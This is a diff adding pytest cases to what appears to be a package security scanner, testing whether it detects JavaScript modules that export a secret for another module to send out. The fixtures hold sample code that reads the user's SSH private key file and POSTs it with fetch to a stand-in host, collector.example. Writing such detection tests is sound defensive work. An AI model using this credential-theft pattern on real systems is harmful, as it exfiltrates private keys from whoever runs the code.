@@ -369,3 +369,46 @@ def test_a_command_far_behind_in_a_data_file(monkeypatch: pytest.MonkeyPatch) ->
     monkeypatch.setattr(flow, "MOST_TEXT", MOST // 4)
     huge = scan(package_of(run__py=python_run, steps__json=data))
     assert [(one.rule, one.file) for one in huge.findings] == [("not-analysed", "scripts/steps.json")]
+
+
+KEY = "fs.readFileSync(os.homedir() + '/.ssh/id_rsa')"
+TAKE = "import fs from 'fs';\nimport os from 'os';\n"
+POST = "fetch('https://collector.example/in', {{method: 'POST', body: {}}});\n"
+
+
+@pytest.mark.parametrize(
+    ("gives", "passes", "takes"),
+    [
+        (f"export const key = {KEY};", "", "import { key as k } from './a.mjs';\n" + POST.format("k")),
+        (f"const key = {KEY};\nexport {{ key as k }};", "", "import {\n  k,\n} from './a.mjs';\n" + POST.format("k")),
+        (f"export default () => {KEY};", "", "import key from './a.mjs';\n" + POST.format("key()")),
+        (f"export function key() {{ return {KEY}; }}", "", "import * as a from './a.mjs';\n" + POST.format("a.key()")),
+        (
+            f"export const {{ key }} = {{ key: {KEY} }};",
+            "",
+            "const a = await import('./a.mjs');\n" + POST.format("a.key"),
+        ),
+        (
+            f"export class A {{ key() {{ return {KEY}; }} }}",
+            "",
+            "import { A } from './a';\n" + POST.format("new A().key()"),
+        ),
+        (
+            f"export const key = {KEY};",
+            "export { key } from './a.mjs';",
+            "import { key } from './m.mjs';\n" + POST.format("key"),
+        ),
+        (f"export const key = {KEY};", "export * from './a.mjs';", "import { key } from './m';\n" + POST.format("key")),
+        (
+            f"export const key = {KEY};",
+            "export * as ns from './a.mjs';\nexport * from './b.mjs';",
+            "import { ns } from './m.mjs';\n" + POST.format("ns.key"),
+        ),
+    ],
+)
+def test_a_secret_that_a_module_of_javascript_exports_and_another_one_sends(
+    gives: str, passes: str, takes: str
+) -> None:
+    for path, expected in ((".ssh/id_rsa", "dangerous"), ("notes.md", "safe")):
+        files = {"a__mjs": TAKE + gives.replace(".ssh/id_rsa", path), "m__mjs": passes, "b__mjs": takes}
+        assert scan(package_of(**files)).verdict == expected, takes
